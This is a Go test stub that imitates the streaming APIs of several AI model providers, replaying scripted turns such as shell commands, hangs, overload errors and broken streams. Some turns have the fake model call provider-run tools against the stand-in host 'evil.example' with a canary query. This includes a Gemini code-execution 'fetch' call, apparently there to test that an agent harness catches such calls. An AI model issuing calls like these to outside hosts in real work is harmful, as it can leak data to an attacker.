package builder

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"sync"
	"time"
)

// turn is what the stub of a model does when it is asked.
type turn struct {
	run    string // has the agent run a command
	say    string // says something, and is done
	status int    // answers so
	hang   bool   // says nothing
	remote string // a tool of this type, which the provider would run, is called
	cut    bool   // begins, and breaks off
}

// model is a stub of the interfaces of providers. It plays its turns one after another, and
// the last one for ever.
type model struct {
	key        string
	aside      bool      // requests without tools are no turns: they ask for a title
	overloaded time.Time // until then nothing is served

	mu    sync.Mutex
	turns []turn
	got   []string // bodies
	paths []string
	wrong []string // who asked without the key
}

func (m *model) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	t := m.next(r, string(body))
	switch {
	case t.hang:
		<-r.Context().Done()
	case t.cut:
		w.Header().Set("Content-Type", "text/event-stream")
		fmt.Fprint(w, "data: {")
		_ = http.NewResponseController(w).Flush()
		panic(http.ErrAbortHandler)
	case t.status != 0:
		kind := "overloaded_error"
		if t.status < http.StatusInternalServerError {
			kind = "not_found_error"
		}
		w.WriteHeader(t.status)
		fmt.Fprintf(w, `{"type":"error","error":{"type":%q,"message":"org-7 is told no"}}`, kind)
	case strings.HasSuffix(r.URL.Path, "/messages"):
		sayAnthropic(w, t, asksFor(body))
	case strings.HasSuffix(r.URL.Path, "/chat/completions"):
		sayChat(w, t)
	case strings.Contains(r.URL.Path, ":"):
		sayGemini(w, t)
	default:
		sayOpenAI(w, t, asksFor(body))
	}
}

// next notes what is asked, and is what is played.
func (m *model) next(r *http.Request, body string) turn {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.got, m.paths = append(m.got, body), append(m.paths, r.Method+" "+r.URL.String())
	if r.Header.Get("X-Api-Key") != m.key && r.Header.Get("Authorization") != "Bearer "+m.key && r.Header.Get("X-Goog-Api-Key") != m.key {
		m.wrong = append(m.wrong, r.URL.Path)
	}
	if m.aside && !strings.Contains(body, `"tools"`) {
		return turn{say: "A title"}
	}
	if time.Now().Before(m.overloaded) {
		return turn{status: 529}
	}
	t := m.turns[0]
	if len(m.turns) > 1 {
		m.turns = m.turns[1:]
	}
	return t
}

// asked are the bodies of all requests.
func (m *model) asked() []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	return slices.Clone(m.got)
}

// asksFor are the names of the tools that a request offers.
func asksFor(body []byte) (names []string) {
	var r struct{ Tools []struct{ Name, Type string } }
	_ = json.Unmarshal(body, &r)
	for _, t := range r.Tools {
		names = append(names, t.Name)
	}
	return names
}

type js = map[string]any

// events writes a stream of them.
func events(w http.ResponseWriter, list ...js) {
	w.Header().Set("Content-Type", "text/event-stream")
	for _, e := range list {
		data, _ := json.Marshal(e)
		fmt.Fprintf(w, "event: %s\ndata: %s\n\n", e["type"], data)
	}
}

// data writes a stream of events without names, as the other interfaces have them.
func data(w http.ResponseWriter, list ...js) {
	w.Header().Set("Content-Type", "text/event-stream")
	for _, e := range list {
		text, _ := json.Marshal(e)
		fmt.Fprintf(w, "data: %s\n\n", text)
	}
}

func sayChat(w http.ResponseWriter, t turn) {
	chunk := func(delta js, reason any) js {
		return js{"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": []js{{"index": 0, "delta": delta, "finish_reason": reason}}}
	}
	call := func(name string, arguments js) js {
		text, _ := json.Marshal(arguments)
		return js{"role": "assistant", "tool_calls": []js{{"index": 0, "id": "call_" + fmt.Sprint(len(text)), "type": "function", "function": js{"name": name, "arguments": string(text)}}}}
	}
	delta, reason := js{"role": "assistant", "content": t.say}, "stop"
	switch {
	case t.run != "":
		delta, reason = call("bash", js{"command": t.run, "description": "a step"}), "tool_calls"
	case t.remote != "":
		delta, reason = call(t.remote, js{"url": "https://evil.example/?canary"}), "tool_calls"
	}
	last := chunk(js{}, reason)
	last["usage"] = js{"prompt_tokens": 10, "completion_tokens": 5, "total_tokens": 15}
	data(w, chunk(delta, nil), last)
	fmt.Fprint(w, "data: [DONE]\n\n")
}

func sayGemini(w http.ResponseWriter, t turn) {
	part := js{"text": t.say}
	switch {
	case t.run != "":
		part = js{"functionCall": js{"name": "bash", "args": js{"command": t.run, "description": "a step"}}}
	case t.remote != "":
		part = js{"executableCode": js{"language": "PYTHON", "code": "fetch('https://evil.example/?canary')"}}
	}
	data(w, js{
		"candidates":    []js{{"content": js{"role": "model", "parts": []js{part}}, "finishReason": "STOP", "index": 0}},
		"usageMetadata": js{"promptTokenCount": 10, "candidatesTokenCount": 5, "totalTokenCount": 15}, "modelVersion": "m",
	})
}

func sayAnthropic(w http.ResponseWriter, t turn, _ []string) {
	block, delta, stop := js{"type": "text", "text": ""}, js{"type": "text_delta", "text": t.say}, "end_turn"
	switch {
	case t.run != "":
		input, _ := json.Marshal(js{"command": t.run, "description": "a step"})
		block, delta, stop = js{"type": "tool_use", "id": "toolu_" + fmt.Sprint(len(t.run)), "name": "Bash", "input": js{}}, js{"type": "input_json_delta", "partial_json": string(input)}, "tool_use"
	case t.remote != "":
		input, _ := json.Marshal(js{"url": "https://evil.example/?canary"})
		block, delta = js{"type": "server_tool_use", "id": "srvtoolu_1", "name": t.remote, "input": js{}}, js{"type": "input_json_delta", "partial_json": string(input)}
	}
	events(w,
		js{"type": "message_start", "message": js{"id": "msg_1", "type": "message", "role": "assistant", "model": "m", "content": []any{}, "usage": js{"input_tokens": 10, "output_tokens": 1}}},
		js{"type": "content_block_start", "index": 0, "content_block": block},
		js{"type": "content_block_delta", "index": 0, "delta": delta},
		js{"type": "content_block_stop", "index": 0},
		js{"type": "message_delta", "delta": js{"stop_reason": stop}, "usage": js{"output_tokens": 7}},
		js{"type": "message_stop"},
	)
}

func sayOpenAI(w http.ResponseWriter, t turn, tools []string) {
	item := js{"type": "message", "id": "msg_1", "role": "assistant", "status": "completed", "content": []any{js{"type": "output_text", "text": t.say, "annotations": []any{}}}}
	switch {
	case t.run != "":
		name, arguments := "exec_command", js{"cmd": t.run}
		switch {
		case slices.Contains(tools, "shell"):
			name, arguments = "shell", js{"command": []string{"sh", "-c", t.run}}
		case slices.Contains(tools, "shell_command"):
			name, arguments = "shell_command", js{"command": t.run}
		}
		text, _ := json.Marshal(arguments)
		item = js{"type": "function_call", "id": "fc_1", "call_id": "call_" + fmt.Sprint(len(t.run)), "name": name, "arguments": string(text), "status": "completed"}
	case t.remote != "":
		item = js{"type": "web_search_call", "id": "ws_1", "status": "completed", "action": js{"type": "open_page", "url": "https://evil.example/?canary"}}
	}
	answer := func(status string, output ...any) js {
		return js{"id": "resp_1", "object": "response", "status": status, "model": "m", "output": append([]any{}, output...), "usage": js{
			"input_tokens": 10, "input_tokens_details": js{"cached_tokens": 0}, "output_tokens": 5, "output_tokens_details": js{"reasoning_tokens": 0}, "total_tokens": 15,
		}}
	}
	events(w,
		js{"type": "response.created", "response": answer("in_progress")},
		js{"type": "response.output_item.added", "output_index": 0, "item": item},
		js{"type": "response.output_item.done", "output_index": 0, "item": item},
		js{"type": "response.completed", "response": answer("completed", item)},
	)
}
